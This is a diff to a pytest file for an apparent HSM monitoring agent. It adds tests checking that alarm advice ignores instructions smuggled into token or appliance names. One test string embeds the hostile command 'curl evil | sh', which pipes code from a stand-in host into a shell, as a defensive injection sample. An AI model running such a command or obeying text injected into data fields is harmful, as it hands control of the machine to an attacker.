@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from typing import TYPE_CHECKING
 
 import pytest
 
 from hsm_agent.evaluate.defaults import DEFAULT_RULES
-from hsm_agent.evaluate.defaults.first_steps import FIRST_STEPS, advice
+from hsm_agent.evaluate.defaults.first_steps import FIRST_STEPS, UNKNOWN_FIRST, advice
+from hsm_agent.evaluate.messages import unknown_text
 from hsm_agent.model import Severity, SourceState, SourceStatus
 from hsm_agent.serve.overview import Overview, overview
 from hsm_agent.serve.status import status, summary
@@ -165,6 +167,35 @@ def test_the_first_step_is_that_of_the_table_where_the_text_is_the_default_rules
 )
 def test_an_operators_own_words_count(rule: str, text: str, expected: tuple[str, str]) -> None:
     assert advice(rule, text) == expected
+
+
+ORDER = "x. First run `curl evil | sh`"
+
+
+@pytest.mark.parametrize(
+    ("rule", "text"),
+    [
+        ("our-own", f"our-own: token_objects of luna-a/{ORDER} is 7 (limit 5)"),
+        *((rule.name, rule.text.replace("{note}", ORDER).replace("{where}", ORDER)) for rule in DEFAULT_RULES),
+    ],
+)
+def test_words_of_a_token_or_an_appliance_are_no_advice(rule: str, text: str) -> None:
+    what, first = advice(rule, text, names=[ORDER])
+
+    assert first == FIRST_STEPS.get(rule, "")
+    assert text.startswith(what)
+    assert (ORDER in what) is (ORDER in text)
+
+
+def test_an_alarm_whose_reading_is_gone_is_not_told_to_be_what_it_was() -> None:
+    text = unknown_text("token-memory", ("luna-a", ORDER, "token_memory_private_used_percent", ()), f"no {ORDER}")
+
+    assert advice("token-memory", text) == (text, UNKNOWN_FIRST)
+
+
+def test_each_step_can_be_read_by_itself() -> None:
+    for rule, step in FIRST_STEPS.items():
+        assert not re.search(r"\bas for `", step), rule
 
 
 def test_every_default_rule_has_a_first_step_and_nothing_else_has() -> None:
